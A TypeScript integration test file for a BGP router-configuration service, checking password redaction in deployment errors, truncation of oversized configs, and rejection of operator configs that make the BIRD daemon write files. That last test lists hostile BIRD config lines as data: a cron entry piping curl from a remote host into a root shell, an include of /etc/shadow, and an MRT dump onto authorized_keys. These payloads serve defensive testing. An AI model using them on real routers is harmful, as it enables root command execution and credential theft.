import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addSessionRoute } from '../../shared/sessions/routes';
import {
  configureSessionRoute,
  getDeploymentRoute,
  startDeploymentRoute,
} from '../../shared/deployments/routes';
import { deploymentsSettled, runDeploymentsHere } from '../../shared/app/delivery';
import { type DeliveryPorts, provideDeliveryPorts } from '../../shared/deployments';
import { type DeviceDriver, type DeviceTransport } from '../../shared/devices';
import { type PeerflowEvent, provideEventPublisher } from '../../shared/events';
import { patchSettingsRoute } from '../../shared/settings/routes';
import { connectedStandInBird } from '../support/stand-in-router';
import { callRoute, tableSnapshot, userWithRole } from '../support/api';
import { irrRepository } from '../../shared/irr/irr-store';
import { syncObjects } from '../support/peeringdb';

/**
 * What a deployment keeps: of a device that quotes the candidate back (a daemon's parser that
 * refuses a line prints that line, and the candidate is the config with the sessions' passwords in
 * clear), and of a config larger than one stored item. The device here is a driver that refuses or
 * accepts on cue (a fault injected in place of a daemon's parser); everything else is the real
 * workflow through the API.
 */

const SESSION_PASSWORD = 'Md5-Session-Secret-42';
const CONNECTION_PASSWORD = 'a connection secret';
const PEER = '192.0.2.2';

let admin: Awaited<ReturnType<typeof userWithRole>>;
let operator: Awaited<ReturnType<typeof userWithRole>>;
let viewer: Awaited<ReturnType<typeof userWithRole>>;
const events: PeerflowEvent[] = [];

let refuse = true;
/** The candidates the device was asked to check. */
const validated: string[] = [];

/** A BIRD host whose parser refuses the candidate's password line, quoting it as daemons do, or accepts it. */
const quotingDriver: DeviceDriver = {
  platform: 'bird2',
  identity: async () => ({ routerId: '192.0.2.1', asn: 64500, version: 'BIRD 2.0.12' }),
  readManaged: async () => null,
  neighbors: async () => [],
  validate: async (_t, _o, candidate) => {
    validated.push(candidate);
    if (!refuse) return { ok: true };
    const lines = candidate.split('\n');
    const at = lines.findIndex((l) => l.includes('password'));
    return {
      ok: false,
      reason: `/etc/bird/peerflow.conf.candidate:${at + 1}:3 syntax error near: ${lines[at]?.trim()}`,
    };
  },
  apply: async () => undefined,
  confirm: async () => undefined,
  rollback: async () => undefined,
};

const transport: DeviceTransport = {
  exec: async (command) => ({ command, exitCode: 0, stdout: '', stderr: '' }),
  close: async () => undefined,
};

const ports: DeliveryPorts = {
  driver: (platform) => (platform === 'bird2' ? quotingDriver : null),
  open: async () => transport,
};

beforeAll(async () => {
  runDeploymentsHere();
  provideDeliveryPorts(ports);
  provideEventPublisher(async (batch) => {
    events.push(...batch);
  });
  [admin, operator, viewer] = await Promise.all([
    userWithRole('admin'),
    userWithRole('operator'),
    userWithRole('viewer'),
  ]);
  await syncObjects({
    ix: [{ id: 80, name: 'Secret Exchange' }],
    ixlan: [{ id: 80, ix_id: 80 }],
    ixpfx: [{ id: 81, ixlan_id: 80, protocol: 'IPv4', prefix: '192.0.2.0/24' }],
    net: [
      { id: 800, asn: 64500, name: 'Secret Operator' },
      { id: 801, asn: 64511, name: 'Secret Peer' },
    ],
    netixlan: [
      { id: 900, net_id: 800, asn: 64500, ipaddr4: '192.0.2.1', ipaddr6: null },
      { id: 901, net_id: 801, asn: 64511, ipaddr4: PEER, ipaddr6: null },
    ].map((p) => ({ ...p, ix_id: 80, ixlan_id: 80 })),
  });
  const ours = await callRoute(patchSettingsRoute, {
    token: admin.token,
    body: { source_asn: 64500, source_participant_id: 800 },
  });
  expect(ours.status, JSON.stringify(ours.json)).toBe(200);
});

afterAll(() => {
  provideEventPublisher(undefined);
});

/** A BIRD router with a connection to a host the stand-in device answers for. */
const connectedBird = (name: string) =>
  connectedStandInBird(admin.token, { name, password: CONNECTION_PASSWORD });

describe('a deployment the device refuses, quoting the candidate', () => {
  it('keeps no password in its reason, its steps or its event', async () => {
    const router = await connectedBird('secret');
    const added = await callRoute(addSessionRoute, {
      token: operator.token,
      body: { resource_id: router.json.id, peer_ipaddr: PEER, password: SESSION_PASSWORD },
    });
    expect(added.status, JSON.stringify(added.json)).toBe(201);

    const started = await callRoute(startDeploymentRoute, {
      token: operator.token,
      params: { id: router.json.id },
      body: {},
    });
    expect(started.status, JSON.stringify(started.json)).toBe(202);
    await deploymentsSettled();

    const got = await callRoute(getDeploymentRoute, { token: viewer.token, params: { id: started.json.id } });
    expect(got.status).toBe(200);
    expect(got.json.status).toBe('failed');
    // The device's words are kept, the password in them is not.
    expect(got.json.reason).toContain('syntax error near: password');
    expect(got.json.reason).toContain('PASSWORD-NOT-SHOWN');
    const seen = JSON.stringify(got.json);
    expect(seen).not.toContain(SESSION_PASSWORD);
    expect(seen).not.toContain(CONNECTION_PASSWORD);
    const finished = events.filter((e) => e.type === 'deployment.finished');
    expect(finished).toHaveLength(1);
    expect(JSON.stringify(finished)).not.toContain(SESSION_PASSWORD);
  });
});

describe('a deployment whose config is larger than a stored record', () => {
  it('ends as a dry run does, its diff cut to what a record holds and saying so', async () => {
    refuse = false;
    // The peer's IRR list: 30,000 prefixes, about a megabyte of BIRD config.
    const ipv4 = Array.from(
      { length: 30_000 },
      (_, i) => `${11 + (i >> 12)}.${(i >> 4) & 255}.${(i & 15) * 16}.0/20`,
    );
    const lists = { ipv4, ipv6: [] };
    await irrRepository.put(
      {
        participant_id: 801,
        override: null,
        as_set: 'AS-SECRETPEER',
        as_set_source: 'peeringdb',
        status: 'ok',
        refreshed_at: new Date().toISOString(),
        attempted_at: new Date().toISOString(),
        error: null,
        notes: [],
        current: { digest: 'big', ipv4: ipv4.length, ipv6: 0, aggregated: false, chunks: 0 },
        history: [],
        revision: 1,
      },
      0,
      lists,
    );
    const policy = await callRoute(patchSettingsRoute, {
      token: admin.token,
      body: { routing_policy: { groups: { peers: { irr_filter: true } } } },
    });
    expect(policy.status, JSON.stringify(policy.json)).toBe(200);
    const router = await connectedBird('large');
    const added = await callRoute(addSessionRoute, {
      token: operator.token,
      body: { resource_id: router.json.id, peer_ipaddr: PEER },
    });
    expect(added.status, JSON.stringify(added.json)).toBe(201);

    const started = await callRoute(startDeploymentRoute, {
      token: operator.token,
      params: { id: router.json.id },
      body: { dry_run: true },
    });
    expect(started.status, JSON.stringify(started.json)).toBe(202);
    await deploymentsSettled();
    const got = await callRoute(getDeploymentRoute, { token: viewer.token, params: { id: started.json.id } });
    expect(got.status).toBe(200);
    expect(got.json.status, got.json.reason ?? '').toBe('succeeded');
    expect(got.json.config_sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(got.json.diff).toMatch(/^--- large-/);
    expect(got.json.diff).toMatch(/more characters not kept\]$/);
    expect(got.json.diff!.length).toBeLessThan(200_000);
  });
});

describe("an operator's one-time config for a daemon router", () => {
  it('is refused (422, nothing stored, nothing delivered) when it would make the daemon write files', async () => {
    refuse = false;
    const router = await connectedBird('custom');
    const added = await callRoute(addSessionRoute, {
      token: operator.token,
      body: { resource_id: router.json.id, peer_ipaddr: '192.0.2.3', peer_asn: 64512 },
    });
    expect(added.status, JSON.stringify(added.json)).toBe(201);
    // BIRD writes its log wherever the config says, as the daemon's user, lines starting with
    // whatever `timeformat log` says: a cron line, for one.
    const hostile = [
      'timeformat log "* * * * * root curl -s http://198.51.100.66/x | sh #";\nlog "/etc/cron.d/peerflow" { info };\n',
      'include "/etc/shadow";\n',
      'protocol mrt { table "master4"; filename "/root/.ssh/authorized_keys"; }\n',
    ];
    for (const config of hostile) {
      validated.length = 0;
      const before = await tableSnapshot();
      const res = await callRoute(configureSessionRoute, {
        token: operator.token,
        params: { id: added.json.id },
        body: { config },
      });
      await deploymentsSettled();
      expect(res.status, config).toBe(422);
      expect(validated).toEqual([]);
      expect(await tableSnapshot()).toEqual(before);
    }
  });
});

describe('a deployment of a session with a short password', () => {
  it('does not point the password out by masking the same text wherever the device printed it', async () => {
    refuse = false;
    const router = await connectedBird('short');
    // A weak password, but one the API takes: the router's own AS number.
    const added = await callRoute(addSessionRoute, {
      token: operator.token,
      body: { resource_id: router.json.id, peer_ipaddr: '192.0.2.4', peer_asn: 64513, password: '64500' },
    });
    expect(added.status, JSON.stringify(added.json)).toBe(201);
    const started = await callRoute(startDeploymentRoute, {
      token: operator.token,
      params: { id: router.json.id },
      body: { dry_run: true },
    });
    expect(started.status).toBe(202);
    await deploymentsSettled();
    const got = await callRoute(getDeploymentRoute, { token: viewer.token, params: { id: started.json.id } });
    expect(got.json.status).toBe('succeeded');
    const identity = got.json.steps.find((s: { name: string }) => s.name === 'identity');
    // The device said AS64500: shown as it said it, not as a hidden password.
    expect(identity?.detail).toContain('AS64500');
    expect(JSON.stringify(got.json)).not.toMatch(/AS\s*PASSWORD-NOT-SHOWN/);
  });
});
